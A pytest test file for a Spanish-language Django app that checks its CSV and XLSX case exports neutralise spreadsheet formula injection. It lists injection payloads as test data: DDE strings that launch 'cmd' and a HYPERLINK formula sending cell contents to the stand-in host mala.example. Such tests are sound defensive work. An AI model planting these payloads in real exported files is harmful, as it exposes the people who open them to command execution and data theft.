"""N12: what strangers wrote is text in every file that leaves, whatever opens the file."""

import csv
import io
from urllib.parse import urlencode

import pytest
from openpyxl import load_workbook

from vinculo.cases.testing import a_case, a_house
from vinculo.identity.testing import a_user, signed_in
from vinculo.kernel.actor import Role

FORMULAS = [
    '=HYPERLINK("http://mala.example?"&A1;"Abrir")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "Sin conexión;=1+1",
    "Sin conexión,=cmd|' /C calc'!A0",
    "«hola»\t@SUM(1)",
]


def cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.django_db
def test_a_list_of_cases_runs_nothing_in_any_spreadsheet() -> None:
    owner = a_user(Role.OWNER)
    a_house(owner_id=owner.id)
    for formula in FORMULAS:
        a_case(subject=formula, sender=f'"{formula[:40]}" <a{abs(hash(formula))}@correo.example>')
    browser = signed_in(owner)
    found = browser.get("/casos/exportar/")
    text = b"".join(found.streaming_content).decode("utf-8-sig")
    assert text.count("cmd|") >= 3
    for delimiter in (";", ",", "\t"):
        begins = {cell.strip()[:1] for cell in cells(text, delimiter)}
        assert not begins & set("=@＝")
        assert not [c for c in cells(text, delimiter) if c[:1] in "+-" and "|" in c]
    query = urlencode({"como": "xlsx"})
    content = b"".join(browser.get(f"/casos/exportar/?{query}").streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    assert sheet.max_row > len(FORMULAS)
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
